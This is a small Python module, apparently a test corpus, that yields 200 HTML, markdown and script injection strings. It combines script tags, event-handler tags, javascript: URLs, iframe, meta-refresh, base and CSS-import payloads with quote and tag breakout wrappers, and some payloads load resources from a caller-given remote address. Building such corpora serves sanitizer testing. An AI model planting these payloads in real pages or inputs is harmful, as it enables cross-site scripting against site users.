"""Two hundred texts that become markup, script or a request where a page takes them for anything but text."""

from collections.abc import Iterator

HIT = "top.__hit=1"
BASES = (
    "<script>{hit}</script>",
    "<script src={far}/1.js></script>",
    "<img src=x onerror={hit}>",
    "<img src={far}/2.png>",
    "<svg onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><image href={far}/3.png /></svg>",
    '<iframe srcdoc="<script>{hit}</script>"></iframe>',
    '<iframe src="javascript:{hit}"></iframe>',
    "<object data={far}/4></object>",
    "<embed src={far}/5>",
    "<video src={far}/6 onerror={hit}></video>",
    "<body onload={hit}>",
    "<details open ontoggle={hit}>",
    "<input autofocus onfocus={hit}>",
    '<a href="javascript:{hit}">x</a>',
    '<form action="javascript:{hit}"><button>x',
    "<link rel=stylesheet href={far}/7.css>",
    "<style>@import url({far}/8.css);*{{background:url({far}/9.png)}}</style>",
    '<meta http-equiv=refresh content="0;url={far}/10">',
    "<base href={far}/>",
    "<math><mtext><img src=x onerror={hit}>",
    "[x](javascript:{hit})",
    "![x]({far}/11.png)",
    "<javascript:{hit}>",
)
AROUND = ("{}", '">{}', "'>{}", "--></title></textarea></script>{}", "](x) {} [", "`{}", "\\{}", "‮{}&#60;img&#62;")


def payloads(far: str) -> Iterator[str]:
    """Each text once; what it would load is at the address `far`."""
    for around in AROUND:
        for base in BASES:
            yield around.format(base.format(hit=HIT, far=far))
